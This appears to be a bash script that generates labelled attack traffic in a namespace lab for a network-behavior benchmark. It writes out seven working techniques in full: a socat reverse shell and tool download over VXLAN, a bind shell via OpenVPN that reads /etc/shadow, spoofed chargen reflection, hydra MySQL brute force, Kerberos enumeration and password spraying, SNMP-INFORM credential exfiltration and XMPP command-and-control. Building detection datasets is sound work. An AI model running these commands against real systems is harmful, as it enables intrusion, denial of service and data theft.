#!/usr/bin/env bash
# A TWELFTH fresh attack set ("f12-*"): techniques none of the earlier sets used, made with real tools between
# network namespaces (no helper program: every far end is a packaged server or tool).
#   f12-vxlan-revshell       a VXLAN overlay (kernel vxlan, udp/4789) from the device to an internet endpoint; through
#                            it the device downloads a tool (socat) and opens a reverse shell the operator types into
#   f12-openvpn-tcp443       an OpenVPN tunnel (openvpn 2.6, TLS with pinned peer fingerprints) over tcp/443 to an
#                            internet server; through it the operator logs into a bind shell and pulls an archive
#   f12-chargen-reflector    the device's inetd chargen (udp/19, openbsd-inetd's built-in) abused as a reflector:
#                            hping3 sends requests spoofed from 6 internet addresses, the device answers each one
#   f12-mysql-brute-wan      MySQL/MariaDB password guessing (hydra mysql) against an internet database server
#   f12-krb5-enum-spray-lan  Kerberos against a LAN KDC (krb5-kdc on tcp+udp/88): user enumeration (nmap
#                            krb5-enum-users), then a password spray (kinit) on the users it found
#   f12-snmp-inform-exfil    exfiltration in SNMPv2c INFORMs (snmpinform, udp/162) to an internet trap receiver
#                            (snmptrapd): a file in base64 chunks, each inform acknowledged
#   f12-xmpp-c2              C2 over XMPP: the device logs into an internet prosody (tcp/5222, STARTTLS) with
#                            go-sendxmpp, receives commands as chat messages and answers with their output
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f12-*, veths f12p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.99.x); the reflector's spoofed targets (10.128.100.x) and every other 10.128/9 address are on no host.
# Each id's servers are started before its capture and stopped after. Every tool runs under `timeout`, every loop
# is bounded; namespaces are removed on exit. The device is always the lab's attacker namespace (role attacker),
# also where the far end starts the connections (the OpenVPN bind shell, the reflector).
#
# Tools (Debian): socat openvpn openbsd-inetd hping3 hydra mariadb-server nmap krb5-kdc krb5-admin-server (kadmin.local)
#   krb5-user (kinit) snmp snmptrapd prosody go-sendxmpp iproute2 tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh12/gen-fresh12.sh [--out DIR (default /work/behavior-bench-fresh12)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh12
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f12 GEN=gen-fresh12
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .99.2 the VXLAN endpoint, .99.3 the OpenVPN server, .99.4 the MariaDB server, .99.5 the XMPP server, .99.6 the
# SNMP trap receiver; the chargen reflection's 6 targets 10.128.100.7-.12 are on no host.
internet_hosts 10.128.99.2 10.128.99.3 10.128.99.4 10.128.99.5 10.128.99.6
lab_tls_cert "c2.example"
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 600000 /dev/urandom > "$W/loot/tool.bin"
head -c 500000 /dev/urandom > "$W/loot/dump.tar"
head -c 13500 /dev/urandom | base64 -w0 > "$W/loot/creds.b64"

# ---------- 1. a VXLAN overlay to an internet endpoint, a tool download and a reverse shell through it ----------
if want f12-vxlan-revshell; then
  ns vic ip route replace 10.66.0.10/32 dev eth0 src 10.128.99.2
  # the overlay: VNI 4242 on udp/4789 between the device and 10.128.99.2; inner 172.30.42.0/24, non-lab MACs
  ns vic ip link add vx0 type vxlan id 4242 local 10.128.99.2 remote 10.66.0.10 dstport 4789 dev eth0
  ns vic ip link set vx0 address 3a:1f:9c:44:02:01
  ns vic ip addr add 172.30.42.1/24 dev vx0
  ns vic ip link set vx0 up
  srv vic 100 socat -u OPEN:"$W/loot/tool.bin" TCP-LISTEN:8080,bind=172.30.42.1,reuseaddr
  DL_PID=$BG
  ( sleep 12; for c in "id" "uname -a" "cat /proc/cpuinfo | head -5" "ip -4 addr" "cat /etc/passwd" "ps" \
      "netstat -an | head -20" "ls -la /tmp" "exit"; do echo "$c"; sleep $((2 + RANDOM % 4)); done ) |
    ip netns exec "$LAB-vic" timeout 90 socat -T 40 TCP-LISTEN:4444,bind=172.30.42.1,reuseaddr - >"$W/vxlan-shell.out" 2>&1 &
  SH_PID=$!; PIDS+=("$SH_PID")
  sleep 1
  cat > "$W/vxlan.sh" <<'EOS'
# the device: bring the overlay up, fetch the tool through it, then call back with a shell
ip link add vx0 type vxlan id 4242 local 10.66.0.10 remote 10.128.99.2 dstport 4789 dev eth0
ip link set vx0 address 3a:1f:9c:44:02:10
ip addr add 172.30.42.10/24 dev vx0
ip link set vx0 up
sleep 2
timeout 20 socat -u TCP:172.30.42.1:8080 CREATE:"$W/vxlan-tool.bin" || true
sleep 3
timeout 70 socat TCP:172.30.42.1:4444 EXEC:'/bin/sh -i',stderr || true
ip link del vx0
EOS
  CAP_VIC_IP=10.128.99.2 cap f12-vxlan-revshell c2 vxlan+socat-revshell attacker public false 90 bash "$W/vxlan.sh"
  stopbg "$DL_PID"; stopbg "$SH_PID"
  ns att ip link del vx0 2>/dev/null || true
  ns vic ip link del vx0 || true
  ns vic ip route del 10.66.0.10/32 dev eth0 src 10.128.99.2 || true
  ls -la "$W/vxlan-tool.bin" >&2 || true
fi

# ---------- 2. an OpenVPN tunnel over tcp/443; the operator logs into a bind shell through it and pulls a file ----------
if want f12-openvpn-tcp443; then
  for s in srv cli; do
    [ -f "$W/ovpn-$s.key" ] || openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 \
      -subj "/CN=ovpn-$s" -keyout "$W/ovpn-$s.key" -out "$W/ovpn-$s.crt" >/dev/null 2>&1
  done
  FP_SRV=$(openssl x509 -in "$W/ovpn-srv.crt" -noout -fingerprint -sha256 | cut -d= -f2)
  FP_CLI=$(openssl x509 -in "$W/ovpn-cli.crt" -noout -fingerprint -sha256 | cut -d= -f2)
  ns vic ip route replace 10.66.0.10/32 dev eth0 src 10.128.99.3
  srv vic 110 openvpn --dev tun --proto tcp-server --local 10.128.99.3 --lport 443 --tls-server --dh none \
    --cert "$W/ovpn-srv.crt" --key "$W/ovpn-srv.key" --peer-fingerprint "$FP_CLI" \
    --ifconfig 172.29.7.1 172.29.7.2 --ping 10 --verb 3
  OVPN_PID=$BG
  sleep 2
  cat > "$W/ovpn.sh" <<EOS
# the device: dial the VPN, listen on the tunnel address for the operator
openvpn --dev tun --proto tcp-client --remote 10.128.99.3 443 --nobind --tls-client \\
  --cert "$W/ovpn-cli.crt" --key "$W/ovpn-cli.key" --peer-fingerprint "$FP_SRV" \\
  --ifconfig 172.29.7.2 172.29.7.1 --ping 10 --verb 3 >"$W/ovpn-cli.log" 2>&1 &
V=\$!
for i in \$(seq 1 20); do ip -4 addr show dev tun0 2>/dev/null | grep -q 172.29.7.2 && break; sleep 0.5; done
sleep 1
( timeout 60 socat TCP-LISTEN:31337,bind=172.29.7.2,reuseaddr EXEC:'/bin/sh -i',stderr ) &
B=\$!
( timeout 60 socat -u OPEN:"$W/loot/dump.tar" TCP-LISTEN:31338,bind=172.29.7.2,reuseaddr ) &
F=\$!
sleep 4
# the operator, on the VPN server's side of the tunnel (172.29.7.1)
( sleep 1; for c in id "uname -a" "cat /etc/shadow" "ip route" "ls -la /var" "tar cf /tmp/d.tar /etc" exit; do
    echo "\$c"; sleep \$((2 + RANDOM % 4)); done ) |
  ip netns exec "\$LAB-vic" timeout 50 socat -T 30 - TCP:172.29.7.2:31337 >/dev/null 2>&1 || true
sleep 2
ip netns exec "\$LAB-vic" timeout 20 socat -u TCP:172.29.7.2:31338 CREATE:"$W/ovpn-pulled.tar" || true
sleep 5
kill \$B \$F 2>/dev/null; kill \$V; wait \$V 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.99.3 cap f12-openvpn-tcp443 c2 openvpn-tcp443+socat-bind-shell attacker public false 95 bash "$W/ovpn.sh"
  stopbg "$OVPN_PID"
  ns vic ip route del 10.66.0.10/32 dev eth0 src 10.128.99.3 || true
  ls -la "$W/ovpn-pulled.tar" >&2 || true
fi

# ---------- 3. chargen reflection: the device's inetd answers udp/19 requests spoofed from 6 internet addresses ----------
if want f12-chargen-reflector; then
  printf 'chargen\tdgram\tudp\twait\troot\tinternal\n' > "$W/inetd.conf"
  srv att 100 /usr/sbin/inetd -i "$W/inetd.conf"
  INETD_PID=$BG
  sleep 1
  cat > "$W/chargen.sh" <<'EOS'
# the attacker's spoofed requests, sent from the device's gateway side (the victim namespace): 6 targets,
# (120 each) 4 a second per target, a fixed source port per target; the device's answers go to the gateway and die there
P=()
for t in 7 8 9 10 11 12; do
  ip netns exec "$LAB-vic" timeout 45 hping3 -q -2 -a 10.128.100.$t -s $((20000 + t * 977)) -k -p 19 -d 1 \
    -c 120 -i u250000 10.66.0.10 >/dev/null 2>&1 &
  P+=($!)
  sleep 0.3
done
for p in "${P[@]}"; do wait "$p" || true; done
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.100.7 cap f12-chargen-reflector dos inetd-chargen+hping3-spoofed attacker wan false 60 \
    bash "$W/chargen.sh"
  stopbg "$INETD_PID"
fi

# ---------- 4. MySQL/MariaDB password guessing (hydra mysql) against an internet database server ----------
if want f12-mysql-brute-wan; then
  rm -rf "$W/mysql"; mkdir -p "$W/mysql"
  timeout 120 mariadb-install-db --no-defaults --datadir="$W/mysql" --user=root --auth-root-authentication-method=socket \
    --skip-test-db >"$W/mysql-install.log" 2>&1
  # the init file takes one statement per line
  printf '%s\n' "CREATE USER 'dbadmin'@'%' IDENTIFIED BY 'Tr0ub4dor&3';" "GRANT ALL ON *.* TO 'dbadmin'@'%';" \
    > "$W/mysql-init.sql"
  srv vic 150 /usr/sbin/mariadbd --no-defaults --datadir="$W/mysql" --user=root --bind-address=10.128.99.4 --port=3306 \
    --socket="$W/mysql.sock" --pid-file="$W/mysql.pid" --skip-name-resolve --init-file="$W/mysql-init.sql" \
    --max-connect-errors=100000 --log-error="$W/mysql/mysql.err"
  DB_PID=$BG
  for i in $(seq 1 30); do ns vic bash -c 'exec 3<>/dev/tcp/10.128.99.4/3306' 2>/dev/null && break; sleep 1; done
  printf '%s\n' root admin dbadmin mysql user > "$W/db-users"
  printf '%s\n' '' root password 123456 admin mysql toor 12345678 qwerty changeme letmein secret > "$W/db-pass"
  CAP_VIC_IP=10.128.99.4 cap f12-mysql-brute-wan credential hydra-mysql attacker public false 90 \
    hydra -L "$W/db-users" -P "$W/db-pass" -t 4 -w 10 -I mysql://10.128.99.4
  stopbg "$DB_PID"
fi

# ---------- 5. Kerberos user enumeration (nmap krb5-enum-users) and a password spray (kinit) against a LAN KDC ----------
if want f12-krb5-enum-spray-lan; then
  K="$W/krb5"; rm -rf "$K"; mkdir -p "$K"
  cat > "$K/krb5.conf" <<EOF
[libdefaults]
  default_realm = CORP.LAN
  dns_lookup_kdc = false
  dns_lookup_realm = false
  udp_preference_limit = 1465
[realms]
  CORP.LAN = {
    kdc = 10.66.0.32
  }
EOF
  cat > "$K/kdc.conf" <<EOF
[kdcdefaults]
  kdc_listen = 10.66.0.32:88
  kdc_tcp_listen = 10.66.0.32:88
[realms]
  CORP.LAN = {
    database_name = $K/principal
    key_stash_file = $K/stash
    acl_file = $K/kadm5.acl
    max_life = 10h 0m 0s
  }
[logging]
  kdc = FILE:$K/kdc.log
EOF
  : > "$K/kadm5.acl"
  export KRB5_CONFIG="$K/krb5.conf" KRB5_KDC_PROFILE="$K/kdc.conf"
  timeout 30 kdb5_util create -s -r CORP.LAN -P 'master-Key-9' >/dev/null
  for u in administrator alice bob svc_backup helpdesk; do
    timeout 10 kadmin.local -q "addprinc +requires_preauth -pw Winter-2026-$u $u" >/dev/null
  done
  srv d32 100 krb5kdc -n -r CORP.LAN
  KDC_PID=$BG
  sleep 2
  printf '%s\n' admin administrator root guest user test alice bob carol dave eve frank svc_sql svc_backup svc_web \
    helpdesk support backup operator john jane mike sarah it itadmin scanner printer camera nvr > "$W/krb-users"
  cat > "$W/krb.sh" <<'EOS'
# 1. which names exist (AS-REQs without pre-authentication: "pre-auth required" = a user, "unknown" = none)
timeout 60 nmap -n -Pn -sT -p 88 --script krb5-enum-users \
  --script-args krb5-enum-users.realm=CORP.LAN,userdb="$W/krb-users" 10.66.0.32 >"$W/krb-nmap.out" 2>&1 || true
grep -o -E '[a-z_]+@CORP.LAN' "$W/krb-nmap.out" | cut -d@ -f1 | sort -u > "$W/krb-found" || true
sleep 2
# 2. a password spray on them: 4 passwords in turn, one try per user each round, a pause between rounds
for p in 'Winter2026!' 'Welcome1' 'Password123' 'Company2026'; do
  while read -r u; do
    echo "$p" | timeout 8 kinit "$u@CORP.LAN" >/dev/null 2>&1 || true
    sleep 0.4
  done < "$W/krb-found"
  sleep 4
done
EOS
  CAP_VIC_IP=10.66.0.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f12-krb5-enum-spray-lan credential nmap-krb5-enum-users+kinit-spray \
    attacker lan false 80 bash "$W/krb.sh"
  stopbg "$KDC_PID"
  unset KRB5_CONFIG KRB5_KDC_PROFILE
  cat "$W/krb-found" >&2 || true
fi

# ---------- 6. exfiltration in SNMPv2c INFORMs (snmpinform) to an internet trap receiver (snmptrapd) ----------
if want f12-snmp-inform-exfil; then
  printf 'disableAuthorization yes\n' > "$W/snmptrapd.conf"
  srv vic 100 snmptrapd -f -n -C -c "$W/snmptrapd.conf" -Lf "$W/snmptrapd.log" udp:10.128.99.6:162
  TRAP_PID=$BG
  sleep 1
  cat > "$W/snmp.sh" <<'EOS'
# the device: a credentials file in 300-character base64 chunks, one inform each, as a linkDown-like trap's varbinds
i=0
fold -w 300 "$W/loot/creds.b64" | head -n 60 | while read -r c; do
  i=$((i + 1))
  timeout 8 snmpinform -v 2c -c public -r 1 -t 2 10.128.99.6:162 '' 1.3.6.1.6.3.1.1.5.3 \
    1.3.6.1.2.1.2.2.1.1.$i i $i 1.3.6.1.4.1.8072.2.3.2.1 s "$c" >/dev/null 2>&1 || true
  sleep 0.$((3 + RANDOM % 5))
done
EOS
  CAP_VIC_IP=10.128.99.6 cap f12-snmp-inform-exfil exfil snmpinform-v2c-chunks attacker public false 80 bash "$W/snmp.sh"
  stopbg "$TRAP_PID"
  wc -l "$W/snmptrapd.log" >&2 || true
fi

# ---------- 7. C2 over XMPP: the device's bot logs into an internet prosody and runs the commands it is sent ----------
if want f12-xmpp-c2; then
  X="$W/prosody"; rm -rf "$X"; mkdir -p "$X/data"
  cp "$W/tls.crt" "$X/c2.example.crt"; cp "$W/tls.key" "$X/c2.example.key"
  cat > "$X/prosody.cfg.lua" <<EOF
pidfile = "$X/prosody.pid"
data_path = "$X/data"
daemonize = false
run_as_root = true
admins = { }
modules_enabled = { "roster"; "saslauth"; "tls"; "disco"; "ping"; "posix" }
c2s_interfaces = { "10.128.99.5" }
c2s_ports = { 5222 }
s2s_ports = { }
c2s_direct_tls_ports = { }
http_ports = { }
https_ports = { }
component_ports = { }
c2s_require_encryption = true
authentication = "internal_hashed"
log = { info = "$X/prosody.log" }
certificates = "$X"
ssl = { certificate = "$X/c2.example.crt"; key = "$X/c2.example.key" }
VirtualHost "c2.example"
EOF
  PCTL=(prosodyctl --config "$X/prosody.cfg.lua")
  timeout 20 "${PCTL[@]}" register bot7f c2.example 'b0t-Pass-77' >/dev/null 2>&1 || true
  timeout 20 "${PCTL[@]}" register op c2.example 'op-Pass-77' >/dev/null 2>&1 || true
  srv vic 120 prosody --config "$X/prosody.cfg.lua"
  XMPP_PID=$BG
  for i in $(seq 1 20); do ns vic bash -c 'exec 3<>/dev/tcp/10.128.99.5/5222' 2>/dev/null && break; sleep 0.5; done
  # the operator, on the server's own host (its XMPP traffic stays on the victim namespace's loopback)
  ( sleep 10; for c in id "uname -a" "cat /etc/passwd" "ip -4 addr" "ps" "ls -la /etc" "netstat -an"; do
      echo "$c"; sleep $((4 + RANDOM % 4)); done; sleep 6 ) |
    ip netns exec "$LAB-vic" timeout 80 go-sendxmpp -n -i -u op@c2.example -p 'op-Pass-77' -j 10.128.99.5:5222 \
      bot7f@c2.example >"$W/xmpp-op.out" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/xmpp.sh" <<'EOS'
# the device's bot: one connection listens for the operator's messages, one sends each command's output back
A=(-n -u bot7f@c2.example -p 'b0t-Pass-77' -j 10.128.99.5:5222)
timeout 65 go-sendxmpp "${A[@]}" -l 2>/dev/null | while IFS= read -r line; do
  cmd="${line#*: }"
  printf '%s\n' "$(timeout 5 sh -c "$cmd" 2>&1 | head -c 1500)"
done | timeout 66 go-sendxmpp "${A[@]}" -i op@c2.example >/dev/null 2>&1 || true
EOS
  CAP_VIC_IP=10.128.99.5 cap f12-xmpp-c2 c2 go-sendxmpp-prosody-bot attacker public false 80 bash "$W/xmpp.sh"
  stopbg "$OP_PID"; stopbg "$XMPP_PID"
fi

lab_index
